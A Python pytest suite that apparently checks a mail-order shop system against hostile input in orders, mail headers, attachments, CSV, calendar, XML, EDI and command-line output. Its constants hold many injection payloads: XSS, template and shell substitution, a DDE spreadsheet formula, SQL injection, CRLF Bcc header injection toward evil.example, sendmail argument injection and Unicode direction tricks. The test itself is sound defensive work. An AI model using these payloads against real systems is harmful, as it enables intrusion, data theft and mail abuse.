"""Values that would like to be something else: a header, markup, a template, a formula, a command, a path. One business that attaches all it can,
orders and answers full of them, and everything that goes out looked at by readers that share nothing with the writer."""

import csv
import html.parser
import io
import json
import re
import urllib.parse
from xml.etree import ElementTree

import pytest

import papers
from browser import Browser
from servers import scratch_folder
from shop import ADMIN, ANNA, DESK, LOOM, MEHMET, ORDERS, PEOPLE, RECEIVABLES, SOFA, WAREHOUSE, Shop, html_of, mail, on, text_of
from test_documents import UBL, X12
from test_staff import SALES, answer, subject_has

EVIL = "evil.example"
NAME = 'Anna {{order.token}} <script>top.pwned=1</script> "onmouseover="top.pwned=2'
REFERENCE = "=cmd|' /C calc'!A0"
NOTE = ["{{{order.token}}} {{>reference}} {{#order}}x{{/order}} {{! gone }} {{=<% %>=}} <%order.token%>",
        "%s%n%08x %d ${order.token} $(touch /tmp/pwned) `touch /tmp/pwned` #{7*7} <?php 1 ?>",
        "<img src=x onerror=top.pwned=3> <svg/onload=top.pwned=4> <a href='javascript:top.pwned=5'>here</a>",
        '"><script>top.pwned=6</script><!-- --> ]]> </td></table></style></title></textarea><form action=//evil.example>',
        "javascript:top.pwned=7 data:text/html,<script>top.pwned=8</script> &lt;b&gt; &#60;script&#62; \\u003cscript\\u003e",
        "'; DROP TABLE orders; -- \" OR 1=1 /* % _ \\ '' */ UNION SELECT token FROM token",
        "=1+1;=1+1;\"=1+1\"", "@SUM(A1)", "-2+3", "+4",
        "Bcc: victim@evil.example", "%0d%0aBcc: victim@evil.example", "BEGIN:VALARM", ".", "From here on", "--b--"]
STAFF = 'our van "><script>top.pwned=9</script> {{order.token}} =1+1'
COMMENT = "1\n{{order.token}} <script>top.pwned=true</script> %s '; DROP TABLE survey;"
SUBJECT = b"=?utf-8?Q?Order=0D=0ABcc:_victim=40evil.example=0D=0A=0D=0A=3Cscript=3Etop.pwned=3D11=3C/script=3E_{{order.token}}=E2=80=A8x=00y?="
FILE = '"><img src=x onerror=top.pwned=12>{{order.token}}.pdf'
TURNED = "\u202egnp.exe\u2066 \x9b31m \x1b]0;pwned\x07"


class Told:
    """All that went out."""

    def __init__(self, shop):
        self.shop = shop
        self.mails = {who: shop.mails(who) for who in PEOPLE if who != ORDERS}
        self.printed = {" ".join(words): shop.command(*words) for words in (
            ["list"], ["list", "--json"], ["show", "EH-1001"], ["show", "EH-1001", "--json"], ["show", "mail", "1"], ["show", "mail", "1", "--json"],
            ["show", "mail", "2"], ["queue", "--all"], ["queue", "--all", "--json"], ["report"], ["report", "--format", "csv"], ["report", "--format", "html"],
            ["report", "--format", "json"], ["show", "EH-1002"], ["show", "EH-1003"])}
        self.order = json.loads(self.printed["show EH-1001 --json"])

    def all(self):
        return [message for mails in self.mails.values() for message in mails]

    def files(self, ending):
        found = [part for message in self.all() for part in message.iter_attachments() if (part.get_filename() or "").endswith(ending)]
        assert found
        return [part.get_payload(decode=True).decode("utf-8-sig") for part in found]


def hostile_order():
    note = "\n".join(f": {line}" for line in NOTE)
    body = SOFA.replace("Name: Anna Weaver", f"Name: {NAME}\nYour reference: {REFERENCE}\nNote:\n{note}").replace("12 Mill Lane", f"12 Mill Lane {TURNED}")
    message = mail(ANNA, "SUBJECT", body)
    message.add_attachment(papers.scanned_pdf(), maintype="application", subtype="pdf", filename="FILE")
    raw = message.as_bytes()
    name = b'=?utf-8?Q?Anna=0D=0ABcc:victim=40evil.example=22_=3Cscript=3E_{{x}}?= <anna@customer.example>'
    raw = raw.replace(b"Subject: SUBJECT", b"Subject: " + SUBJECT).replace(b"From: anna@customer.example", b"From: " + name)
    return raw.replace(b'filename="FILE"', b"filename*=utf-8''" + urllib.parse.quote(FILE).encode())


@pytest.fixture(scope="module")
def told(whole_site, source, build):
    whole_site.clear()
    with scratch_folder() as folder:
        shop = Shop(folder, whole_site, source, build, business="x12_acknowledgement = true; ubl_response = true;")
        text = shop.config.read_text()
        text = text.replace("ics     = true;", "ics = true; csv = true; json = true;").replace("csv          = true;", "csv = true; ics = true; json = true;")
        shop.config.write_text(text)
        with shop.running():
            shop.receive(hostile_order())
            (work,) = shop.inbox(WAREHOUSE)
            shop.receive(mail(MEHMET, "Order", "Product: <svg onload=top.pwned=13> {{order.token}} %s\nQuantity: <b>2</b>\nFabric: {{order.token}}\nName: '; --\n"))
            shop.inbox(MEHMET)
            shop.receive(answer(work, WAREHOUSE, f"Status: shipped\nCarrier: {STAFF}\nNote to customer: {STAFF}"))
            shop.inbox(WAREHOUSE, having=subject_has("done"))
            shop.receive(answer(work, WAREHOUSE, "delivered"))
            shop.inbox(ANNA, having=subject_has("delivered"))
            document = UBL.replace("<cbc:ID>PO-118", "<cbc:ID>PO-&lt;script&gt;top.pwned=14&lt;/script&gt;{{order.token}}=1+1")
            for name, content in (("po.xml", document), ("orders.edi", X12.replace("*X-1*", "*=1+1{{x}}'*"))):
                message = mail(ANNA, "Purchase order", "see attachment")
                message.add_attachment(content.encode(), maintype="application", subtype="octet-stream", filename=name)
                shop.receive(message)
            shop.settled(6)
            shop.receive(answer(shop.inbox(ANNA, having=subject_has("EH-1001"))[0], ANNA, "The driver <script>top.pwned=15</script> {{order.token}} %s was rude."))
            shop.inbox(DESK, having=lambda message: "The driver" in text_of(message))
        with shop.running(clock=on(9)):
            (survey,) = shop.inbox(ANNA, having=subject_has("How was order EH-1001"))
            shop.receive(answer(survey, ANNA, COMMENT))
            shop.inbox(DESK, having=subject_has("a bad mark"))
        with shop.running(clock=on(12)):
            shop.inbox(SALES, having=subject_has("Whom to call"))
        yield Told(shop)


# --- headers ---------------------------------------------------------------------------------------------------------------------


def test_adv_36_37_no_value_becomes_a_header_or_a_line(told):
    """CR, LF, NUL, U+2028 and their like, in encoded words and as they are."""
    allowed = {"from", "to", "subject", "date", "message-id", "mime-version", "content-type", "content-transfer-encoding", "content-language", "reply-to",
               "in-reply-to", "references", "auto-submitted", "x-auto-response-suppress", "x-mailorder-version", "x-mailorder-letter", "return-path",
               "delivered-to", "received", "x-original-to", "content-disposition", "list-unsubscribe", "precedence"}
    for message in told.all():
        names = [name.lower() for name in message]
        assert {name for name in names if not name.startswith("x-mailorder-")} <= allowed, names
        assert names.count("to") == names.count("from") == names.count("subject") == 1
        assert EVIL not in " ".join(str(message[name]) for name in ("From", "To", "Reply-To") if message[name])
        for part in message.walk():
            assert not part.defects
        for value in message.values():  # a TAB is where a line was folded
            assert not re.search("[\0-\x08\x0a-\x1f\x7f-\x9f\u2028\u2029]", str(value)), value
    assert all("Bcc" not in part for message in told.all() for part in message.walk())
    assert told.order["customer"]["name"].startswith("Anna {{order.token}} <script>")


# --- text and HTML ---------------------------------------------------------------------------------------------------------------


def flat(text):
    return re.sub(r"\s+", " ", text)


def raw_values():
    """What stands in the letters as it was written, in lines that are not broken there."""
    return [NAME, REFERENCE, *NOTE[:6]]


def test_adv_38_templates_formats_and_shell_are_values(told):
    confirmed = next(m for m in told.mails[ANNA] if "EH-1001" in m["Subject"] and "confirmed" in m["Subject"])
    work = next(m for m in told.mails[WAREHOUSE] if "EH-1001" in m["Subject"])
    token = re.search(r"\[ref: ([a-z2-7]{26})\]", text_of(confirmed))[1]
    for message in (confirmed, work):
        for value in raw_values():
            assert flat(value) in flat(text_of(message)), value
        assert f"{{{{{token}" not in text_of(message) and f"Anna {token}" not in text_of(message)
    assert flat(" ".join(told.order["values"]["note"].split("\n"))) == flat(" ".join(NOTE)) if "values" in told.order else True
    shipped = next(m for m in told.mails[ANNA] if "on its way" in m["Subject"])
    assert flat(STAFF) in flat(text_of(shipped))
    alert = next(m for m in told.mails[DESK] if "a bad mark" in m["Subject"])
    assert "{{order.token}} <script>top.pwned=true</script>" in flat(text_of(alert))
    import os
    assert not os.path.exists("/tmp/pwned")


class Page(html.parser.HTMLParser):
    """What could do something, and the text."""

    HARMLESS = {"html", "head", "meta", "title", "body", "table", "tr", "td", "th", "thead", "tbody", "p", "div", "span", "a", "br", "h1", "h2", "h3", "b",
                "strong", "em", "i", "ul", "ol", "li", "pre", "hr", "blockquote", "style", "svg", "rect", "text", "g", "line", "path", "figure", "figcaption",
                "section", "main", "header", "footer", "caption", "small", "dl", "dt", "dd", "time", "circle", "polyline", "desc", "col", "colgroup"}

    def __init__(self, page):
        super().__init__()
        self.text, self.links = [], []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        assert tag in self.HARMLESS, tag
        for name, value in attributes:
            assert not name.startswith("on") and name not in ("src", "srcset", "action", "formaction", "background", "ping"), (tag, name)
            assert name != "http-equiv" or value == "Content-Security-Policy"
            assert re.fullmatch(r"[a-z][a-z0-9:-]*", name), name
            if name in ("href", "xlink:href"):
                self.links.append(value)
                assert urllib.parse.urlsplit(value).scheme in ("mailto", "tel", "https"), value
            if name == "style":
                assert "url(" not in value and "expression" not in value and "pwned" not in value

    def handle_comment(self, data):
        assert data.startswith("[if mso]><") and "pwned" not in data and "{{" not in data, data  # of our own templates

    def handle_data(self, data):
        self.text.append(data)


def pages(told):
    found = [(message["Subject"], html_of(message)) for message in told.all() if html_of(message)]
    assert len(found) >= 12
    return [*found, ("report", told.printed["report --format html"])]


def test_adv_39_markup_is_text(told):
    shown = {}
    for subject, page in pages(told):
        read = Page(page)
        shown[subject] = flat("".join(read.text))
        for link in read.links:
            if link.startswith("mailto:"):  # one recipient, ours, and no field that a mail program would obey
                address, _, query = link[7:].partition("?")
                assert urllib.parse.unquote(address) in (ORDERS, "help@shop.example", ANNA, MEHMET), link
                assert {key for key, _ in urllib.parse.parse_qsl(query)} <= {"subject", "body"}, link
    confirmed = next(text for subject, text in shown.items() if subject.startswith("Your order EH-1001 is confirmed"))
    for value in raw_values():
        assert flat(value) in confirmed, value


def test_adv_39_nothing_runs_in_a_browser(told, tmp_path):
    """All letters as one a page; a page that runs something says so, or asks for something."""
    with Browser(tmp_path) as browser:
        for number, (subject, page) in enumerate(pages(told)):
            path = tmp_path / f"{number}.html"
            path.write_text(page)
            browser.asked.clear()
            browser.open(path)
            assert browser.run("top.pwned") is None, subject
            assert [address for address in browser.asked if address != path.as_uri()] == [], subject
            assert browser.run("document.scripts.length + document.forms.length + document.images.length + document.querySelectorAll('iframe, object, embed').length") == 0
            assert browser.run("[...document.querySelectorAll('*')].filter((one) => [...one.attributes].some((a) => a.name.startsWith('on'))).length") == 0
            assert browser.run("[...document.links].filter((one) => !/^(mailto|tel|https):/.test(one.href)).length") == 0


# --- other programs' files -------------------------------------------------------------------------------------------------------


def cells(text, delimiter):
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def test_adv_40_no_cell_is_a_formula_whatever_the_separator(told):
    """A spreadsheet takes the separator of its country: a cell may begin where we did not begin one."""
    texts = [*told.files(".csv"), told.printed["report --format csv"]]
    for text in texts:
        for delimiter in ",;\t":
            for cell in cells(text, delimiter):
                assert not re.match(r'[\s"]*[=+@＝＋＠-]', cell) or re.fullmatch(r"-?[0-9.]+", cell.strip('" ')) is not None, (delimiter, cell)
    rows = [row for text in texts[:-1] for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert any("'=cmd|' /C calc'!A0" in row.values() for row in rows)
    assert any(NAME in row.values() for row in rows)


def test_adv_38_39_calendars_json_and_acknowledgements_are_what_they_are(told):
    for text in told.files(".ics"):
        lines = text.replace("\r\n ", "").split("\r\n")
        assert lines[-1] == "" and {line.partition(":")[0].partition(";")[0] for line in lines[:-1]} <= {
            "BEGIN", "END", "VERSION", "PRODID", "UID", "DTSTAMP", "SEQUENCE", "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION", "TRANSP"}
        assert [line for line in lines if line.startswith("BEGIN")] == ["BEGIN:VCALENDAR", "BEGIN:VEVENT"]
    assert any(NAME in text_values(json.loads(text)) for text in told.files(".json"))
    for name in ("list --json", "show EH-1001 --json", "show mail 1 --json", "queue --all --json", "report --format json"):
        json.loads(told.printed[name])
    for text in told.files(".xml"):
        root = ElementTree.fromstring(text)
        assert "PO-<script>top.pwned=14</script>{{order.token}}=1+1" in [element.text for element in root.iter()]
    for text in told.files(".edi"):
        assert all(re.fullmatch(r"[A-Z0-9]{2,3}", segment.strip().split(text[3])[0]) for segment in text[:-1].split(text[105]))


def text_values(found):
    if isinstance(found, dict):
        return [text for value in found.values() for text in text_values(value)]
    if isinstance(found, list):
        return [text for value in found for text in text_values(value)]
    return [found]


def test_adv_36_nothing_that_a_terminal_obeys_is_printed(told):
    for name, text in told.printed.items():
        assert not re.search("[\0-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", text.replace("\r\n", "\n") if "csv" in name else text), name
    for message in told.all():
        body = text_of(message)
        assert not re.search("[\0-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", body), message["Subject"]
    assert "\x1b" not in told.shop.said() and "\u202e" not in told.shop.said()


def test_adv_42_sql_is_a_value_and_a_number_is_a_number(told):
    numbers = [row["number"] for row in told.shop.json("list")]
    assert numbers[-1] == "EH-1001" and len(numbers) >= 4
    for asked in ("EH-1001' OR '1'='1", "%", "_", "EH-100_", "EH-1001;", "EH-1001--", "' UNION SELECT token FROM token --", "EH-1001\n", "\"", "\\", "*", "1"):
        done = told.shop.command("show", asked, check=False)
        assert done.returncode == 65 and done.stdout == "", asked
    for words in (["--customer", "' OR 1=1 --"], ["--customer", "%"], ["--customer", "anna@customer_example"], ["--state", "' OR '1'='1"], ["--state", "%"]):
        done = told.shop.command("list", *words, "--json", check=False)
        assert done.returncode != 0 or json.loads(done.stdout) == [], words
    for words in (["ship", "EH-1001' --"], ["note", "%", "x"], ["queue", "drop", "1 OR 1=1"], ["show", "mail", "1 OR 1=1"], ["accept", "EH-100%"]):
        assert told.shop.command(*words, check=False).returncode != 0, words
    assert [row["number"] for row in told.shop.json("list")] == numbers


# --- addresses -------------------------------------------------------------------------------------------------------------------

SENDERS = [
    b"From: \"victim@evil.example, x\"@customer.example", b"From: \"victim@evil.example\"@customer.example", b"From: victim%evil.example@customer.example",
    b"From: evil.example!victim@customer.example", b"From: <@evil.example:victim@evil.example@customer.example>", b"From: anna@customer.example, victim@evil.example",
    b"From: anna@customer.example; victim@evil.example", b"From: friends: anna@customer.example, victim@evil.example;", b"From: friends: anna@customer.example;",
    b"From: -oQ/tmp@customer.example", b"From: -v@customer.example", b"From: |/bin/sh@customer.example", b"From: anna@customer.example>,<victim@evil.example",
    b"From: <anna@customer.example>, <victim@evil.example>", b"From: =?utf-8?Q?anna=40customer.example=2C_victim=40evil.example?=",
    b"From: =?utf-8?Q?anna=40customer.example=0D=0ABcc=3A_victim=40evil.example?= <anna@customer.example\r\n ,victim@evil.example>",
    b"From: anna@customer.example\x00,victim@evil.example", b"From: anna@customer.example\rBcc: victim@evil.example", b"From: anna @customer.example", b"From: anna@customer.example.",
    b"From: anna@[127.0.0.1]", b"From: anna@evil.example@customer.example", "From: ann\u0430@customer.example".encode(), b"From: (victim@evil.example) <>",
]
NAMED = ["anna@customer.example, victim@evil.example", "anna@customer.example;victim@evil.example", "anna@customer.example victim@evil.example",
         "anna@customer.example\n  victim@evil.example", "Anna <victim@evil.example>, anna@customer.example", "victim%evil.example@customer.example",
         "\"anna@customer.example,victim@evil.example\"@customer.example", "-oQ/tmp@customer.example", "anna@customer.example\u2028Bcc: victim@evil.example"]


def test_adv_43_no_address_adds_another(site, scratch, source, build):
    """As the sender's, as the one that a form of our web site names, and as the one that a representative types."""
    shop = Shop(scratch, site, source, build)
    with shop.running():
        for number, sender in enumerate(SENDERS, 1):
            raw = mail(ANNA, f"Order {number}", SOFA.replace("Quantity: 2", f"Quantity: {number}")).as_bytes()
            shop.receive(raw.replace(b"From: anna@customer.example", sender, 1).replace(b"\n", b"\r\n").replace(b"\r\r\n", b"\r\n"))
        for number, named in enumerate(NAMED, 1):
            body = SOFA.replace("Quantity: 2", f"Quantity: {number}").replace("Phone:", f"E-mail: {named}\nPhone:")
            shop.receive(mail("form@shop.example", "New order", body, Auto_Submitted="auto-generated", Reply_To="victim@evil.example"))
            shop.receive(mail(SALES, "By telephone", body.replace(f"Quantity: {number}", f"Quantity: {number + 20}"), name="Sam"))
        shop.settled(len(SENDERS) + 2 * len(NAMED), seconds=90)
        queued = shop.json("queue", "--all")
        ours = {WAREHOUSE, RECEIVABLES, DESK, ADMIN, LOOM, SALES, ANNA}
        assert {row["recipient"] for row in queued} <= ours, sorted({row["recipient"] for row in queued} - ours)
        assert len([row for row in queued if row["recipient"] == DESK]) >= len(SENDERS) // 2  # a person is told of those that are not answered
        assert EVIL not in " ".join(line for line in (site.folder / "mta" / "postfix.log").read_text().splitlines() if "to=<" in line)
